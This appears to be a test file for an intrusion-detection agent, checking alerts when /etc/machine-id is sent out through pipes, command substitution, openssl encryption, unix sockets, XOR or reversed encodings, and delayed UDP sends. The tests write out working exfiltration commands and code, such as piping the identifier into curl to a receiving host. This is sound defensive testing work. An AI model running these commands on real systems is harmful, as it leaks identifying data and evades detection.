# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Taint that travels between processes: pipes, command substitution into exec, encryption, unix sockets."""
import subprocess
import time

from idslib import PYTHON, Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py


def shell(cmd, timeout=20):
    r = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True, timeout=timeout)
    expect_eq(0, r.returncode, "exit status of %r (stderr %r)" % (cmd, r.stderr))
    return r


def test_pipe_into_curl_is_confirmed_with_lineage(host):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        shell("cat /etc/machine-id | curl -s -o /dev/null --max-time 5 --data-binary @- http://%s:8080/" % host.addr)
        a = agent.wait_alert(process__comm="curl")
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("plain", a["evidence"]["encoding"], "evidence.encoding")
    lineage = a.get("lineage") or ""
    expect(lineage.startswith("cat[") and lineage.endswith("curl[%d]" % a["process"]["pid"]) and "-pipe->" in lineage,
           "a lineage 'cat[N] -pipe-> curl[M]', got %r" % lineage)


def test_command_substitution_then_exec_is_confirmed(host):
    code = "import os, socket, sys; s = socket.create_connection((sys.argv[1], 9000), timeout=5); s.sendall(os.environ['DEVID'].encode())"
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        proc = subprocess.Popen(["sh", "-c", 'DEVID=$(cat /etc/machine-id) exec %s -c "%s" %s' % (PYTHON, code, host.addr)])
        expect_eq(0, proc.wait(20), "client exit status")
        a = agent.wait_alert(process__pid=proc.pid)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers")


def test_encrypted_pipeline_is_suspected_for_curl(host):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        shell("cat /etc/machine-id | openssl enc -aes-256-cbc -pbkdf2 -pass pass:k | "
              "curl -s -o /dev/null --max-time 5 --data-binary @- http://%s:8080/" % host.addr)
        a = agent.wait_alert(process__comm="curl")
    expect_eq("suspected", a["confidence"], "confidence")
    expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers")
    expect("openssl[" in (a.get("lineage") or ""), "openssl in the lineage, got %r" % a.get("lineage"))


def test_unix_socketpair_carries_taint(host):
    code = """
import os, socket, sys
a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
    a.close()
    data = b.recv(100)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(b"x=" + data)
    os._exit(0)
b.close()
a.sendall(open("/etc/machine-id", "rb").read())
os.waitpid(pid, 0)
print(pid)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        _, out = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=int(out))
    expect_eq("confirmed", a["confidence"], "confidence")


def test_pipelines_without_identifiers_are_quiet(host):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        shell("cat /etc/hostname | openssl enc -aes-256-cbc -pbkdf2 -pass pass:k | "
              "curl -s -o /dev/null --max-time 5 --data-binary @- http://%s:8080/" % host.addr)
        shell("echo hello | curl -s -o /dev/null --max-time 5 --data-binary @- http://%s:8080/" % host.addr)
        pid, _ = run_py("import socket,sys; s=socket.create_connection((sys.argv[1], 9000)); s.sendall(open('/etc/machine-id','rb').read())", host.addr)
        agent.wait_alert(process__pid=pid)
        expect_eq([], agent.alerts(process__comm="curl"), "alerts for pipelines without identifiers")


def test_contact_with_a_holder_that_passes_nothing_is_not_suspected(host):
    code = """
import os, socket, sys, time
a, b = socket.socketpair()
pid = os.fork()                      # before the parent touches the identifier
if pid == 0:
    a.close()
    b.recv(100)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(os.urandom(32))
    os._exit(0)
b.close()
open("/etc/machine-id").read()
time.sleep(2.5)   # no longer a fresh read: what it writes now is judged by its content
a.sendall(b"hello, nothing to see")
os.waitpid(pid, 0)
print(pid)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        _, out = run_py(code, host.addr)
        child = int(out)
        pid, _ = run_py("import socket,sys; s=socket.create_connection((sys.argv[1], 9000)); s.sendall(open('/etc/machine-id','rb').read())", host.addr)
        agent.wait_alert(process__pid=pid)
        expect_eq([], agent.alerts(process__pid=child), "alerts for the child that only got 'hello'")


def test_fresh_reader_passes_its_taint_through_a_unix_socket(host):
    """The same exchange right after the read: the writer may have transformed the value."""
    code = """
import os, socket, sys
a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
    a.close()
    b.recv(100)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(os.urandom(32))
    os._exit(0)
b.close()
v = open("/etc/machine-id").read()
a.sendall(bytes(x ^ 0x5a for x in v.encode()))
os.waitpid(pid, 0)
print(pid)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        _, out = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=int(out))
    expect_eq("suspected", a["confidence"], "confidence")
    expect("-unix-> python3[%s]" % out.strip() in (a.get("lineage") or ""), "a unix hop in the lineage, got %r" % a.get("lineage"))


# A holder that transforms the value and hands it on through a pipe long after its read (the
# reader was forked before the read: it inherits nothing). argv[2] names the transform.
LATE_TRANSFORM = """
import os, socket, sys, time
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(w)
    data = os.read(r, 200)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(data)
    os._exit(0)
os.close(r)
v = open("/etc/machine-id").read().strip()
time.sleep(2.5)   # no longer a fresh read
if sys.argv[2] == "xor":
    os.write(w, bytes(x ^ 0x5a for x in v.encode()))
else:
    os.write(w, ("v=" + v[::-1]).encode())
os.waitpid(pid, 0)
print(pid)
"""


def test_value_transformed_and_handed_on_late_is_suspected(host):
    for transform in ("xor", "reverse"):
        with Agent(policy_text=POLICY_MACHINE_ID) as agent:
            _, out = run_py(LATE_TRANSFORM, host.addr, transform)
            a = agent.wait_alert(process__pid=int(out))
        expect_eq("suspected", a["confidence"], "confidence (%s)" % transform)
        expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers (%s)" % transform)
        expect("-pipe-> python3[%s]" % out.strip() in (a.get("lineage") or ""),
               "a pipe hop in the lineage (%s), got %r" % (transform, a.get("lineage")))


LATE = r"""
import os, socket, sys, time
v = open("/etc/machine-id").read().strip()
time.sleep(float(sys.argv[2]))
for port, data in ((9999, "heartbeat"), (9999, "id=" + v)):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data.encode(), (sys.argv[1], port))
    time.sleep(0.2)
print(os.getpid())
"""


def test_late_send_of_the_value_is_confirmed_after_the_window(host):
    """A holder that sends long after its read (the seed's ApeStsMonths reported monthly): the
    value seen is reported however late; a send without it is no suspicion past the window."""
    policy = POLICY_MACHINE_ID.replace("window: 10m", "window: 2s")
    with Agent(policy_text=policy) as agent:
        pid, _ = run_py(LATE, host.addr, "3", timeout=30)
        a = agent.wait_alert(process__pid=pid)
        time.sleep(1)
        alerts = agent.alerts(process__pid=pid)
    expect_eq("confirmed", a["confidence"], "the late send's confidence")
    expect_eq(["confirmed"], [x["confidence"] for x in alerts],
              "only the value's send is reported, not the heartbeat past the window")
